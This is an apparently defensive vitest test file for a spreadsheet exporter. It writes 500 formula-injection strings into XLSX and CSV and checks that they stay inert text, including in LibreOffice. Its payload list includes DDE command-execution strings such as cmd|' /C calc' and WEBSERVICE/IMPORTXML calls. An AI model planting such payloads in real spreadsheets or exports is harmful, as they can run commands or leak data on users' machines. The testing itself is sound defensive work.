// 500 texts that spreadsheets run, or take for something else. With SAMSPEL_FULL and LibreOffice on the machine: opened by it, and read again.
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { writeCsv } from '../../../../src/exchange/formats/csv'
import { writeXlsx } from '../../../../src/exchange/formats/xlsx'
import { wholeTranslate } from '../../../../src/i18n/languages'
import { documentWith } from '../../../helpers/documents'
import { elementsOf, named, partsOf } from '../../../helpers/office'
import { english, swedish } from '../../../helpers/texts'
import { formats, readBlobs, trip } from '../../../helpers/trips'

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  "'=",
  '"=',
  '＝',
  '＋',
  '－',
  '＠',
  ';=',
  ',=',
  '=+',
  '=-',
  '@@',
  '',
  '\u200b=',
  '\ufeff=',
  '=\t',
  '%',
  '==',
]
const payloads = [
  '1+1',
  'HYPERLINK("http://example.org/?"&A1;"klicka")',
  "cmd|' /C calc'!A0",
  'DDE("soffice";"x";"y")',
  'WEBSERVICE("http://example.org/")',
  'IMPORTXML("http://example.org/";"//a")',
  'SUM(A1:A9)*cmd|x',
  'A1',
  '2025-01-01',
  '3/4',
  '1e5',
  '00123',
  '12,5',
  'TRUE',
  '1;2\n=1+1',
  '"";=1+1',
  '1","=1+1',
  'rnd()',
  '{=1+1}',
  'of:=1+1',
]
const nasty = starts.flatMap((start) => payloads.map((payload) => start + payload))

const doc = documentWith({
  actors: nasty.map((text, index) => ({ id: `a${index}`, name: `Enhet ${index}`, note: text, extra: { Eget: text } })),
  info: { title: nasty[0] ?? '', question: nasty[40] ?? '' },
})
const date = new Date(0)

describe(`${nasty.length} nasty cells`, () => {
  it('are texts in the workbook', async () => {
    expect(nasty.length).toBe(500)
    const parts = await partsOf(await writeXlsx(doc, swedish, date))
    for (const path of parts.keys()) if (path.startsWith('xl/worksheets/')) expect(named(parts, path, 'f'), path).toEqual([])
    const cells = named(parts, 'xl/worksheets/sheet1.xml', 'c').filter(({ attributes }) => /^B\d/.test(attributes.r ?? ''))
    expect(cells).toHaveLength(501)
    for (const { attributes } of cells) expect(attributes.t).toBe('inlineStr')
  })

  it('are quoted in CSV, and guarded where a spreadsheet would run them', async () => {
    for (const t of [swedish, english]) {
      const cells = (await writeCsv(doc, 'actors', t).text()).match(/"(?:[^"]|"")*"/g) ?? []
      expect(cells.length).toBeGreaterThan(1500)
      for (const cell of cells) expect(cell).toMatch(/^"(?![=+\-@\t\r\n＝＋－＠])/)
    }
  })

  it('come back from CSV as they were, but for spaces around them', async () => {
    const back = await trip(doc, formats.CSV, swedish)
    const notes = Object.values(back.actors).map(({ note }) => note)
    expect(notes).toEqual(nasty.map((text) => text.trim()))
  })

  it.runIf(process.env.SAMSPEL_FULL)('are no formulas in LibreOffice', { timeout: 600_000 }, async () => {
    const folder = mkdtempSync(join(tmpdir(), 'nasty-'))
    try {
      const bytes = async (blob: Blob) => new Uint8Array(await blob.arrayBuffer())
      const files = {
        'map.xlsx': await bytes(await writeXlsx(doc, swedish, date)),
        'sv.csv': await bytes(writeCsv(doc, 'actors', swedish)),
        'en.csv': await bytes(writeCsv(doc, 'actors', await wholeTranslate('en'))),
      }
      for (const [name, content] of Object.entries(files)) {
        writeFileSync(join(folder, name), content)
        // UTF-8, semicolon or comma, quotes; special numbers are looked for, as a person's own settings may say.
        const filter = name.endsWith('.csv') ? [`--infilter=CSV:${name.startsWith('sv') ? 59 : 44},34,76,1,,0,false,true,false`] : []
        const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`
        execFileSync('soffice', [profile, '--headless', ...filter, '--convert-to', 'fods', '--outdir', folder, join(folder, name)], {
          stdio: 'pipe',
        })
        const sheet = readFileSync(join(folder, name.replace(/\.\w+$/, '.fods')), 'utf8')
        const cells = elementsOf(name, sheet).filter((element) => element.name === 'table:table-cell')
        expect(cells.length, name).toBeGreaterThan(1500)
        expect(
          cells.filter(({ attributes }) => 'table:formula' in attributes).map(({ text }) => text),
          name,
        ).toEqual([])
        // What is a text stays one: no date, no number of it.
        if (name === 'map.xlsx')
          for (const text of ['00123', '3/4', '1e5', '2025-01-01', 'TRUE'])
            expect(
              cells.some((cell) => cell.text.trim() === text && cell.attributes['office:value-type'] === 'string'),
              text,
            ).toBe(true)
      }
      expect((await readBlobs({ 'map.xlsx': new Blob([files['map.xlsx']]) })).sheets.length).toBeGreaterThan(1)
    } finally {
      rmSync(folder, { recursive: true, force: true })
    }
  })
})
